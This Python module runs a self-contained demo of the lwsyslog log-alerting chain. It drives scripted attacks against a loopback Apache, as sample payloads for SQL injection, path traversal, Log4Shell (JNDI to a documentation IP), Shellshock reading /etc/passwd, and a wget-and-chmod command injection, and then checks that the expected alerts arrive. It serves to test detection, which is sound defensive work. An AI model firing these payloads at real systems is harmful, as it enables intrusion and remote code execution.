"""``lwsyslog demo``: the whole chain on one machine, attacked, with the alerts it raised and
the notifications they became.

As root, beside the host's own services and without touching them: a journald in a private
mount namespace, a web-host and a central rsyslogd on 127.0.0.1 with fresh TLS certificates
and the shipped drop-ins (RELP over TLS), a real Apache whose logs the web host follows with
imfile, and the real ``lwsyslog-omprog`` writing alerts to the private journald, a messages
file, its SQLite alert store and three notification channels: e-mail to a local SMTP server
(STARTTLS, AUTH), a signed webhook and an apprise ``json://`` URL to a local HTTP receiver
(:mod:`lwsyslog.lab.demo_notify`). A scripted mix of browsing and attacks runs over HTTP (each
attacker from its own loopback address) and through ``logger``; the demo then shows the alerts
the way ``journalctl`` shows them, what the receivers got, ``lwsyslog alerts`` and ``lwsyslog
report`` over the store and the report mailed with ``report --mail``, and stops every process
and server it started, by pid or handle.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from types import FrameType
from typing import TextIO

from lwsyslog import lab
from lwsyslog.lab.demo_notify import (
    GROUP_SECS,
    MIN_SEVERITY,
    DemoReceivers,
    show_store,
    stored_alerts,
    wait_for_store,
)
from lwsyslog.lab.journal import field_values

__all__ = [
    "EXIT_CANNOT_RUN",
    "EXIT_MISSING_ALERTS",
    "EXPECTED",
    "DemoOptions",
    "Expectation",
    "missing_alerts",
    "run_demo",
]

EXIT_MISSING_ALERTS = 1
EXIT_CANNOT_RUN = 2


@dataclass(frozen=True, slots=True)
class DemoOptions:
    """What ``lwsyslog demo`` was asked for."""

    workdir: Path | None = None
    """Where everything is written; ``None`` makes a temporary directory."""
    keep: bool = False
    """Keep the temporary work directory (a given ``workdir`` is always kept)."""
    wait_secs: float = 30.0
    """How long to wait for the expected alerts after the traffic."""


@dataclass(frozen=True, slots=True)
class Expectation:
    """An alert the demo must produce: a journal entry whose ``field`` contains ``value``."""

    name: str
    field: str
    value: str

    def met_by(self, entry: Mapping[str, object]) -> bool:
        """True when the journal ``entry`` is such an alert."""
        return self.value in field_values(entry, self.field)


EXPECTED: tuple[Expectation, ...] = (
    Expectation("sqli", "LWSYSLOG_CATEGORY", "sqli"),
    Expectation("path-traversal", "LWSYSLOG_CATEGORY", "path-traversal"),
    Expectation("log4shell", "LWSYSLOG_CATEGORY", "log4shell"),
    Expectation("shellshock", "LWSYSLOG_CATEGORY", "shellshock"),
    Expectation("scan-404-burst", "LWSYSLOG_RULE", "scan-404-burst"),
    Expectation("auth-brute-force", "LWSYSLOG_RULE", "auth-brute-force"),
    Expectation("command-injection (via logger)", "LWSYSLOG_CATEGORY", "command-injection"),
)
"""The alerts the scripted traffic must raise; a missing one fails the demo."""


def missing_alerts(
    entries: Sequence[Mapping[str, object]], expected: Sequence[Expectation] = EXPECTED
) -> list[str]:
    """Names of the expectations no journal entry meets."""
    return [exp.name for exp in expected if not any(exp.met_by(e) for e in entries)]


# --- the scripted traffic -------------------------------------------------------------------

BENIGN = "127.0.0.10"
_BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
_SCANNER = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{n:06d})"
_LOGGER_ATTACKER = "203.0.113.77"
_LOGGER_CGI_CLIENT = "203.0.113.78"


@dataclass(frozen=True, slots=True)
class _Requests:
    """One actor's requests: ``label`` for the progress line, all sent from ``source``."""

    label: str
    source: str
    paths: tuple[str, ...]
    headers: Mapping[str, str] = field(default_factory=dict)
    auth: tuple[str, str] | None = None
    per_request: Callable[[int], Mapping[str, str]] | None = None


def _traffic() -> tuple[_Requests, ...]:
    words = ("admin", "backup", "old", "test", "wp-login.php", "phpinfo.php", "config",
             "db", ".git/HEAD", "cgi-bin/test")  # fmt: skip
    scan_paths = tuple(f"/{words[n % len(words)]}{n}" for n in range(45))
    return (
        _Requests(
            "benign browsing, a missing favicon and a good login",
            BENIGN,
            ("/", "/index.html", "/about.html", "/robots.txt", "/favicon.ico"),
            {"User-Agent": _BROWSER},
        ),
        _Requests(
            "",
            BENIGN,
            ("/private/secret.txt",),
            {"User-Agent": _BROWSER},
            (lab.ApacheInstance.USER, lab.ApacheInstance.PASSWORD),
        ),
        _Requests(
            "SQL injection",
            "127.0.0.21",
            ("/index.html?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",),
        ),
        _Requests("path traversal", "127.0.0.22", ("/index.html?file=../../../../etc/passwd",)),
        _Requests(
            "scanner burst: 45 missing pages with a Nikto User-Agent",
            "127.0.0.23",
            scan_paths,
            per_request=lambda n: {"User-Agent": _SCANNER.format(n=n)},
        ),
        _Requests(
            "Basic-auth brute force: 14 wrong passwords on /private/",
            "127.0.0.24",
            ("/private/secret.txt",) * 14,
            {"User-Agent": _BROWSER},
            (lab.ApacheInstance.USER, "guess"),
        ),
        _Requests(
            "Log4Shell in the User-Agent",
            "127.0.0.25",
            ("/",),
            {"User-Agent": "${jndi:ldap://198.51.100.9:1389/Exploit}"},
        ),
        _Requests(
            "Shellshock in the Referer header",
            "127.0.0.26",
            ("/cgi-bin/status",),
            {"Referer": "() { :; }; /bin/bash -c 'cat /etc/passwd'", "User-Agent": _BROWSER},
        ),
    )


def _send(chain: lab.LocalChain, requests: _Requests) -> list[int]:
    assert chain.apache is not None
    statuses = []
    for n, path in enumerate(requests.paths):
        headers = dict(requests.headers)
        if requests.per_request is not None:
            headers.update(requests.per_request(n))
        auth = requests.auth
        if auth is not None and auth[1] == "guess":
            auth = (auth[0], f"guess{n}")
        statuses.append(
            lab.fetch(chain.apache.url(path), source=requests.source, headers=headers,
                      basic_auth=auth)
        )  # fmt: skip
    return statuses


def _logger_lines() -> list[tuple[str, str, str]]:
    """(label, tag, message) written with ``logger`` into the web host's rsyslog."""
    now = time.time()
    access_time = time.strftime("%d/%b/%Y:%H:%M:%S %z", time.localtime(now))
    error_time = time.strftime("%a %b %d %H:%M:%S.000000 %Y", time.localtime(now))
    return [
        (
            f"command injection from {_LOGGER_ATTACKER} (an access-log line)",
            "apache-access",
            f'{_LOGGER_ATTACKER} - - [{access_time}] "GET /search?q=x;wget%20http://198.51.100.9/'
            f'x.sh%20-O%20/tmp/x;chmod%20+x%20/tmp/x HTTP/1.1" 200 512 "-" "curl/8.0"',
        ),
        (
            f"bash refusing a Shellshock function from {_LOGGER_CGI_CLIENT} (an error-log line)",
            "apache-error",
            f"[{error_time}] [cgi:error] [pid 4242] [client {_LOGGER_CGI_CLIENT}:51234] "
            "AH01215: /bin/bash: warning: HTTP_X_TEST: ignoring function definition attempt: "
            "/usr/lib/cgi-bin/status",
        ),
    ]


# --- output ---------------------------------------------------------------------------------


class _Progress:
    """Numbered progress lines; detail lines printed inside a step go below its title."""

    def __init__(self, out: TextIO, steps: int) -> None:
        self._out = out
        self._steps = steps
        self._step = 0
        self._open = False

    def line(self, text: str) -> None:
        if self._open:
            print(file=self._out)
            self._open = False
        print(text, file=self._out, flush=True)

    @contextlib.contextmanager
    def step(self, text: str) -> Iterator[None]:
        self._step += 1
        print(f"[{self._step}/{self._steps}] {text} ...", end="", file=self._out, flush=True)
        self._open = True
        start = time.monotonic()
        try:
            yield
        except BaseException:
            self._finish("failed")
            raise
        self._finish(f"ok ({time.monotonic() - start:.1f} s)")

    def _finish(self, result: str) -> None:
        print(f" {result}" if self._open else f"      {result}", file=self._out, flush=True)
        self._open = False


def _show_command(
    out: TextIO, journal: lab.JournalNamespace, args: Sequence[str], note: str = ""
) -> None:
    shown = " ".join(("journalctl", "-D", lab.JOURNAL_DIR, *args))
    print(f"\n$ {shown}{note}", file=out)
    proc = subprocess.run(
        journal.journalctl(*args), capture_output=True, text=True, errors="replace", check=False
    )
    text = proc.stdout.rstrip("\n")
    print(text if text else proc.stderr.rstrip("\n"), file=out, flush=True)


def _report(
    out: TextIO,
    journal: lab.JournalNamespace,
    entries: Sequence[Mapping[str, object]],
    messages: Path,
) -> None:
    print(
        "\nThe journal below is the demo's private journald; the commands run inside its mount "
        f"namespace (nsenter -t {journal.holder_pid} -m).",
        file=out,
    )
    _show_command(out, journal, ["-t", "lwsyslog"])
    example = next(
        (e for e in entries if "log4shell" in field_values(e, "LWSYSLOG_CATEGORY")),
        entries[0] if entries else None,
    )
    if example is not None:
        rule = str(example.get("LWSYSLOG_RULE", ""))
        _show_command(out, journal, ["-t", "lwsyslog", "-o", "verbose", "-n", "1",
                                     f"LWSYSLOG_RULE={rule}"])  # fmt: skip
    _show_command(out, journal, ["-t", "lwsyslog", "-o", "cat", "LWSYSLOG_CLIENT_IP=127.0.0.24"],
                  "   # one client's alerts")  # fmt: skip
    print(f"\n$ cat {messages}", file=out)
    text = messages.read_text(encoding="utf-8", errors="replace") if messages.exists() else ""
    print(text.rstrip("\n") or "(empty)", file=out, flush=True)


# --- the run --------------------------------------------------------------------------------


def _interrupt(signum: int, frame: FrameType | None) -> None:
    raise KeyboardInterrupt


def _prepare_workdir(options: DemoOptions) -> tuple[Path, bool]:
    """The work directory and whether to remove it at the end."""
    if options.workdir is None:
        return Path(tempfile.mkdtemp(prefix="lwsyslog-demo-")), not options.keep
    workdir = options.workdir.resolve()
    if workdir.exists() and any(workdir.iterdir()):
        raise lab.LabError(f"work directory {workdir} is not empty")
    workdir.mkdir(parents=True, exist_ok=True)
    return workdir, False


def run_demo(options: DemoOptions, out: TextIO = sys.stdout, err: TextIO = sys.stderr) -> int:
    """Run the demo; 0 when every expected alert arrived, 1 when some did not, 2 when it
    cannot run here (not root, a tool missing, a bad work directory)."""
    if os.geteuid() != 0:
        print("lwsyslog demo: must run as root (it starts journald in a private mount "
              "namespace, rsyslogd and apache2 on 127.0.0.1)", file=err)  # fmt: skip
        return EXIT_CANNOT_RUN
    reason = lab.missing_requirements()
    if reason:
        print(f"lwsyslog demo: cannot run here: {reason}", file=err)
        return EXIT_CANNOT_RUN
    try:
        workdir, remove = _prepare_workdir(options)
        script = lab.find_omprog_script()
    except (lab.LabError, OSError) as error:
        print(f"lwsyslog demo: {error}", file=err)
        return EXIT_CANNOT_RUN
    restore = None
    if threading.current_thread() is threading.main_thread():
        restore = signal.signal(signal.SIGTERM, _interrupt)  # clean up on kill, like on ^C
    try:
        return _run(workdir, script, options, out, err)
    finally:
        if restore is not None:
            signal.signal(signal.SIGTERM, restore)
        if remove:
            shutil.rmtree(workdir, ignore_errors=True)
        else:
            print(f"\nwork directory kept: {workdir}", file=out)


def _run(workdir: Path, script: Path, options: DemoOptions, out: TextIO, err: TextIO) -> int:
    progress = _Progress(out, 7)
    progress.line(f"lwsyslog demo in {workdir} (everything on 127.0.0.1, stopped at the end)")
    journal = lab.JournalNamespace(workdir / "journal")
    chain: lab.LocalChain | None = None
    receivers: DemoReceivers | None = None
    messages = workdir / "messages"
    store = workdir / "state" / "alerts.db"
    try:
        with progress.step("private journald in its own mount namespace"):
            journal.start()
        with progress.step("fresh TLS certificates (site CA, central, web host, mail) and configs"):
            receivers = DemoReceivers(workdir / "receivers")
            config = lab.write_lab_config(workdir / "lwsyslog.toml", receivers.notify_toml())
            program = lab.omprog_command(
                config=config, state_dir=workdir / "state", messages_file=messages, script=script
            )
            chain = lab.LocalChain(workdir / "chain", program, journal)
        with progress.step(f"notification receivers: {receivers.describe()}"):
            receivers.start()
        assert chain.apache is not None
        with progress.step(
            f"Apache on 127.0.0.1:{chain.apache.port}, central rsyslogd (RELP/TLS on "
            f"127.0.0.1:{chain.server_port}) running lwsyslog-omprog, web-host rsyslogd"
        ):
            chain.start()
        with progress.step("traffic over HTTP and logger"):
            for requests in _traffic():
                statuses = _send(chain, requests)
                if requests.label:
                    codes = ", ".join(sorted({str(s) for s in statuses}))
                    progress.line(f"      {requests.source:<11} {requests.label} -> HTTP {codes}")
            for label, tag, message in _logger_lines():
                chain.logger(message, tag=tag)
                progress.line(f"      logger -t {tag}: {label}")
        entries: list[dict[str, object]] = []
        with progress.step(f"waiting for the alerts in journald (up to {options.wait_secs:.0f} s)"):
            deadline = time.monotonic() + options.wait_secs
            while True:
                entries = chain.alerts()
                if not missing_alerts(entries) or time.monotonic() > deadline:
                    break
                time.sleep(0.25)
        undelivered = _wait_for_notifications(progress, receivers, store, len(entries), options)
        progress.line(f"{len(entries)} alerts; the journal and the messages file follow")
        _report(out, journal, entries, messages)
        receivers.show(out)
        failed = show_store(out, store, config, workdir / "report.html", receivers)
        missing = missing_alerts(entries)
        if missing or undelivered or failed:
            problems = [f"expected alerts missing: {', '.join(missing)}"] if missing else []
            problems += [f"notifications missing: {'; '.join(undelivered)}"] if undelivered else []
            problems += [f"failed: {'; '.join(failed)}"] if failed else []
            print(f"\nlwsyslog demo: FAILED: {'; '.join(problems)}", file=err)
            print(chain.diagnostics(), file=err)
            return EXIT_MISSING_ALERTS
        names = ", ".join(e.name for e in EXPECTED)
        print(f"\nlwsyslog demo: OK: every expected alert arrived ({names}), and reached "
              "the receivers", file=out)  # fmt: skip
        return 0
    except (RuntimeError, TimeoutError, OSError, subprocess.CalledProcessError) as error:
        print(f"\nlwsyslog demo: FAILED: {error}", file=err)
        if chain is not None:
            print(chain.diagnostics(), file=err)
        return EXIT_MISSING_ALERTS
    finally:
        with _signals_ignored():
            try:
                if chain is not None:
                    chain.stop()
            finally:
                try:
                    if receivers is not None:
                        receivers.stop()
                finally:
                    journal.stop()


def _wait_for_notifications(
    progress: _Progress,
    receivers: DemoReceivers,
    store: Path,
    alerts: int,
    options: DemoOptions,
) -> list[str]:
    """Wait until the store holds the journal's alerts and the receivers got every
    notification; what is missing (empty when all arrived)."""
    with progress.step(
        f"waiting for the notifications (alerts of {MIN_SEVERITY.value} and worse, one "
        f"message per client after {GROUP_SECS} s; up to {options.wait_secs:.0f} s)"
    ):
        deadline = time.monotonic() + options.wait_secs
        stored = wait_for_store(store, alerts, options.wait_secs)
        expected = stored_alerts(store, MIN_SEVERITY)
        while not receivers.complete(expected) and time.monotonic() < deadline:
            time.sleep(0.2)
    problems = receivers.missing(expected)
    if stored < alerts:
        problems.insert(0, f"alert store: {stored} of {alerts} alerts")
    return problems


@contextlib.contextmanager
def _signals_ignored() -> Iterator[None]:
    """Hold off ^C and TERM while stopping: a second ^C must not strand a process."""
    if threading.current_thread() is not threading.main_thread():
        yield
        return
    previous = {sig: signal.signal(sig, signal.SIG_IGN) for sig in (signal.SIGINT, signal.SIGTERM)}
    try:
        yield
    finally:
        for sig, handler in previous.items():
            signal.signal(sig, handler)
